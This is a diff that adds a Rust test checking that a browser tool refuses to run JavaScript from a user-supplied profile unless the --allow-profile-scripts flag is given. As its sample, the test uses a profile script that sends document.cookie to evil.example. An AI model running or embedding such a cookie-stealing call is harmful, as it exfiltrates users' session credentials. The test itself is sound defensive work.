@@ -295,6 +295,35 @@ async fn traps_detect_scripts_but_ignore_the_page() {
     browser::shutdown(driver, &BrowserOptions::default()).await;
 }
 
+/// JavaScript of a profile from outside runs only if the user asks for it; nothing is opened before.
+#[test]
+fn scripts_of_profiles_need_a_flag() {
+    let dir = tempfile::tempdir().unwrap();
+    let arena = include_str!("../../profiles/arena.toml");
+    let key = "key = { left = \"a\", right = \"d\", degrees = 15.0 }";
+    let scripted = arena.replace(key, "call = \"fetch('https://evil.example/' + document.cookie)\"");
+    assert_ne!(scripted, arena);
+    let file = dir.path().join("mine.toml");
+    std::fs::write(&file, scripted).unwrap();
+    let run = |args: &[&str]| {
+        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_landfall"));
+        let output = command.args(args).arg("--site").arg(&file).env("PATH", "").output().unwrap();
+        (output.status.code(), stderr(&output))
+    };
+    let pages = [vec!["http://127.0.0.1:9/"], vec!["--base-url", "http://127.0.0.1:9/"], vec![]];
+    for command in ["play", "doctor"] {
+        for page in &pages {
+            let (code, error) = run(&[&[command], &page[..]].concat());
+            assert_eq!(code, Some(2), "{command} {page:?}: {error}");
+            assert!(error.contains("mine.toml: look.call") && error.contains("--allow-profile-scripts"), "{error}");
+        }
+        // With the flag it goes on, to find no browser in the empty PATH.
+        let (code, error) = run(&[command, "--allow-profile-scripts", "http://127.0.0.1:9/"]);
+        assert_eq!(code, Some(3), "{command}: {error}");
+        assert!(!error.contains("look.call"), "{error}");
+    }
+}
+
 fn stderr(output: &Output) -> String {
     String::from_utf8_lossy(&output.stderr).into_owned()
 }
